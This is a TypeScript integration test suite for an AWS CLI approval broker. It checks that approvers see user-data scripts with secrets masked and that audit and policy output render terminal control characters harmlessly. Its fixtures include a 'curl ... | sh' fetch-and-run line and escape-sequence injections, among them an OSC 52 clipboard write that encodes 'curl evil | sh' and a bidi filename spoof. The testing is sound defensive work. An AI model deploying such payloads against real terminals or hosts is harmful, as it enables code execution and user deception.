import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ApprovalSummary } from '../../src/api/types.js';
import { startStack, type Stack } from './harness.js';

/**
 * Issue 7, "Approvers and auditors see the truth, safely", through the built CLI on real parts (the real aws CLI
 * v1, moto, the embedded IdP, the broker with its SQLite store and audit log):
 * - the approver sees the user-data script a run-instances call sends (from a file://), secrets inside it
 *   masked, and the audit record of the run keeps exactly those parameters;
 * - caller-controlled control characters (in an argv, and in the run's output) are shown as escapes by
 *   `audit list/show/replay`, `explain` and `policy test`; replay keeps colours only.
 */
let s: Stack;
let t: { alice: string; bob: string; carol: string };

const FAKE_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const BOOT = `#!/bin/bash\necho "hello from guard"\nexport AWS_SECRET_ACCESS_KEY=${FAKE_KEY}\ncurl -s https://example.test/setup | sh\n`;
// Clear the screen, write the clipboard (OSC 52), reverse the text (bidi override), overwrite the line (CR); and
// a harmless colour.
const ATTACK = '\x1b[31mred\x1b[0m \x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \u202egnp.exe\r s3 ls';
/** What a terminal would act on (CR excluded: checked separately). */
const ACTIVE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

beforeAll(async () => {
  s = await startStack({ policies: [join(__dirname, 'fixtures', 'truth-policy.yaml')] });
  t = { alice: await s.token('alice'), bob: await s.token('bob'), carol: await s.token('carol') };
  writeFileSync(join(s.dir, 'boot.sh'), BOOT);
}, 180_000);
afterAll(async () => s?.close());

describe('approvers see the decoded parameters; the audit record keeps them', () => {
  let id: string;
  const argv = ['ec2', 'run-instances', '--image-id', 'ami-12c6146b', '--instance-type', 't2.micro', '--user-data', 'file://boot.sh'];

  it('approvals show: the user-data script from the file, secrets inside masked', async () => {
    const first = await s.run(argv, { token: t.alice });
    expect(first.status, first.stderr).toBe(75);
    id = /(apr_[A-Za-z0-9_-]+)/.exec(first.stderr)![1]!;
    const shown = await s.run(['approvals', 'show', id], { token: t.bob });
    expect(shown.status, shown.stderr).toBe(0);
    expect(shown.stdout).toContain(`  UserData  (from file ${join(s.dir, 'boot.sh')}, ${Buffer.byteLength(BOOT)} bytes, secrets inside masked)`);
    expect(shown.stdout).toContain('    │ #!/bin/bash\n    │ echo "hello from guard"\n    │ export AWS_SECRET_ACCESS_KEY=<masked>\n    │ curl -s https://example.test/setup | sh');
    expect(shown.stdout).not.toContain(FAKE_KEY);
    const json = JSON.parse((await s.run(['approvals', 'show', id, '--json'], { token: t.bob })).stdout) as ApprovalSummary;
    expect(json.parameters!.find((p) => p.name === 'UserData')).toMatchObject({ value: BOOT.replace(FAKE_KEY, '<masked>'), secretsMasked: true });
  });

  it('approved and run, the audit record holds the parameters as the approver saw them', async () => {
    expect((await s.run(['approvals', 'approve', id, '--yes'], { token: t.bob })).status).toBe(0);
    const run = await s.run(['--approval', id, ...argv], { token: t.alice });
    expect(run.status, run.stderr).toBe(0);
    const rows = JSON.parse((await s.run(['audit', 'list', '--user', 'alice', '--json'], { token: t.carol })).stdout) as { grantId: string; argv?: string[]; kind: string }[];
    const grantId = rows.find((r) => r.kind === 'transcript' && r.argv?.includes('run-instances'))!.grantId;
    const record = JSON.parse((await s.run(['audit', 'show', grantId, '--json'], { token: t.carol })).stdout) as { body: { approval?: { id: string; parameters?: { name: string; value: string }[] } } };
    expect(record.body.approval).toMatchObject({ id });
    expect(record.body.approval!.parameters!.find((p) => p.name === 'UserData')!.value).toBe(BOOT.replace(FAKE_KEY, '<masked>'));
    const text = await s.run(['audit', 'show', grantId], { token: t.carol });
    expect(text.stdout).toContain('approved:  binding sha256:');
    expect(text.stdout).toContain('│ echo "hello from guard"');
    // The chain still verifies with the approval inside the record.
    expect((await s.run(['audit', 'verify'], { token: t.carol })).status).toBe(0);
  });
});

describe('control characters are shown, not obeyed', () => {
  let grantId: string;
  const argv = ['s3api', 'list-buckets', '--output', 'text', '--query', `'${ATTACK}'`];

  beforeAll(async () => {
    const run = await s.run(argv, { token: t.alice });
    expect(run.status, run.stderr).toBe(0);
    // The live output is the real aws's, as on any terminal; what the log plays back is what this is about.
    expect(run.stdout).toContain('\x1b]52;');
    const rows = JSON.parse((await s.run(['audit', 'list', '--user', 'alice', '--json'], { token: t.carol })).stdout) as { grantId: string; argv?: string[]; kind: string }[];
    grantId = rows.find((r) => r.kind === 'transcript' && r.argv?.includes('list-buckets'))!.grantId;
  });

  it('audit list', async () => {
    const r = await s.run(['audit', 'list', '--user', 'alice'], { token: t.carol });
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(ACTIVE);
    expect(r.stdout).not.toContain('\r');
    expect(r.stdout).toContain('\\x1b[31mred\\x1b[0m \\x1b[2J');
  });

  it('audit show', async () => {
    const r = await s.run(['audit', 'show', grantId], { token: t.carol });
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(ACTIVE);
    expect(r.stdout).not.toContain('\r');
    expect(r.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\u202egnp.exe\\x0d s3 ls');
  });

  it('audit replay keeps the colour and the CR, and makes the rest inert', async () => {
    const r = await s.run(['audit', 'replay', grantId, '--speed', 'max'], { token: t.carol });
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toContain('\x1b[31mred\x1b[0m');
    expect(r.stdout).toContain('\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\u202egnp.exe\r s3 ls');
    expect(r.stdout.replace(/\x1b\[[0-9;]*m/g, '')).not.toMatch(ACTIVE);
  });

  it('explain', async () => {
    const r = await s.run(['explain', '--', ...argv]);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(ACTIVE);
    expect(r.stdout).not.toContain('\r');
    // Tokens are JSON-quoted there (C0 controls as \u001b); the bidi override is made visible on top.
    expect(r.stdout).toContain('\\u001b[2J\\u001b[H\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 \\u202egnp.exe\\r s3 ls');
  });

  it('policy test', async () => {
    writeFileSync(
      join(s.dir, 'escape.test.yaml'),
      JSON.stringify({
        policies: [join(__dirname, 'fixtures', 'truth-policy.yaml')],
        context: { account: '123456789012', region: 'us-east-1' },
        cases: [
          { argv, expect: { decision: 'deny' } },
          { name: `named ${ATTACK}`, argv: ['s3api', 'list-buckets'], expect: { decision: 'allow' } },
        ],
      }),
    );
    const r = await s.run(['policy', 'test', 'escape.test.yaml']);
    expect(r.status).toBe(1);
    expect(r.stdout).toContain('FAIL  s3api list-buckets --output text --query');
    expect(r.stdout).toContain('PASS  named \\x1b[31mred');
    expect(r.stdout).not.toMatch(ACTIVE);
    expect(r.stdout).not.toContain('\r');
  });
});
